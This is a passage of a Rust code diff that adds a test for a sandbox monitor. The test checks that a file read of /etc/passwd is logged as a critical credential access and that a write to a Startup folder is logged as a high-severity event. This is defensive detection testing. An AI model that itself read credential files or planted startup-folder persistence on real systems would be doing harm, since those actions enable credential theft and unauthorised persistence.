+        let mut instance = SandboxInstance::new("test-file-exec".to_string(), policy).unwrap();
+        instance.initialize().unwrap();
+        instance.start().unwrap();
+
+        let mut executor = SandboxExecutor::new(&instance);
+        let result = executor.execute(code).await.unwrap();
+
+        // Reading passwd is a critical credential access
+        assert!(!result.success);
+        let activity = executor.file_activity();
+        assert_eq!(activity.iter().filter(|op| op.kind == FileOperationKind::Write).count(), 2);
+        assert!(activity.iter().any(|op| op.kind == FileOperationKind::Read && op.path == "/etc/passwd"));
+
+        let file_events: Vec<_> = result.security_events.iter()
+            .filter(|e| matches!(e.event_type, SecurityEventType::FileAccessAttempt))
+            .collect();
+        assert_eq!(file_events.len(), 2);
+        assert_eq!(file_events[0].description, format!("Write to Startup folder: {}", startup));
+        assert!(matches!(file_events[0].severity, SecuritySeverity::High));
+        assert_eq!(file_events[1].description, "Read of Credential file: /etc/passwd");
+        assert!(matches!(file_events[1].severity, SecuritySeverity::Critical));
+    }
+
     #[tokio::test]
     async fn test_network_block() {
         let mut instance = SandboxInstance::new(